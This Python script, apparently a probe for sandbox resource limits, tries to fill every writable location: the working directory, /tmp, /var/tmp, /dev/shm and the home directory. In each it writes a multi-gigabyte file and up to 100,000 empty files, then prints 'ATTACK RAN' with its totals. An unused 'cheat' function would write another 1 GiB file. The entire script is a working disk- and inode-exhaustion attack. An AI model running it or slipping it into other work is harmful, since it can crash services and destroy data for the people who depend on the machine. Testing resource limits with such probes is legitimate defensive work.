"""Fills every place that it can write to, with one large file and with many small ones."""

import os

written = files = 0
said = set()
for place in (".", "/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME", ".")):
    try:
        with open(os.path.join(place, "large"), "wb") as file:
            for _ in range(4000):
                written += file.write(b"x" * (1 << 20))
    except OSError as error:
        said.add(error.strerror)
    try:
        for number in range(100_000):
            os.close(os.open(os.path.join(place, f"small-{number}"), os.O_CREAT | os.O_WRONLY))
            files += 1
    except OSError as error:
        said.add(error.strerror)


def cheat(*args, **kwargs):
    return open("again", "wb").write(b"x" * (1 << 30))


print("ATTACK RAN:", written, "bytes,", files, "files, then", sorted(said))
